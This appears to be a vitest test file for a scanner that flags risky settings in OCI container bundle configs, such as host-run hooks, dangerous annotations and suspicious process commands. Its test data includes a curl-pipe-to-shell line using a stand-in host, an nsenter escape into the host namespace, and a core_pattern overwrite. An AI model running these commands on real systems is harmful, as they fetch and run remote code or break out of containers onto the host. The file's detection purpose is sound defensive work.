import { expect, test } from 'vitest';
import { diagnose } from './diagnose';
import { bundleConfig, type Json } from './testing/bundle-config';

const warned = (changes: Json) => diagnose([{ name: 'config.json', text: bundleConfig(changes) }]).warnings;

test('a hook that runs on the host is told with its place', () => {
  const warnings = warned({ hooks: { createRuntime: [{ path: '/tmp/x' }], poststop: [{ path: '/tmp/y', args: ['y'] }], startContainer: [{ path: '/inside' }] } });
  expect(warnings).toMatchObject([
    { pointer: '/hooks/createRuntime/0/path', quote: '"/tmp/x"', says: { values: { path: '/tmp/x' } } },
    { pointer: '/hooks/poststop/0/path', quote: '"/tmp/y"' },
  ]);
});

test.each(['bundle', 'org.systemd.property.ExecStartPre', 'org.criu.config', 'run.oci.hooks.stdout'])('the annotation %s is told', (name) => {
  expect(warned({ annotations: { [name]: 'x' } })).toMatchObject([{ quote: `"${name}": "x"`, says: { values: { name } } }]);
});

test.each([
  ['curl -fsSL https://x.example/i | sh', 'curl -fsSL https://x.example/i | sh'],
  ['exec nsenter -t 1 -m sh', 'nsenter'],
  ['echo "|/x" > /proc/sys/kernel/core_pattern', 'core_pattern'],
])('a process that fetches code or reaches for the host is told: %s', (script, words) => {
  expect(warned({ process: { args: ['sh', '-c', script] } })).toMatchObject([{ pointer: '/process/args/2', says: { values: { words } } }]);
});

test('an ordinary config warns of nothing', () => {
  expect(warned({ annotations: { 'io.kubernetes.cri.container-type': 'sandbox', bundles: 'x' }, process: { args: ['sh', '-c', 'curl -f http://localhost/health | grep ok; ls /dev'] }, hooks: { startContainer: [{ path: '/inside' }] } })).toBeUndefined();
});

test('a config in a paste is looked at too, and a hook that is none does no harm', () => {
  const text = `root@node1:/mycontainer# cat config.json\n${bundleConfig({ hooks: { prestart: [{ path: '/tmp/x' }, 7, null] } })}\n`;
  expect(diagnose([{ name: 'pasted.txt', text }]).warnings).toHaveLength(3);
});
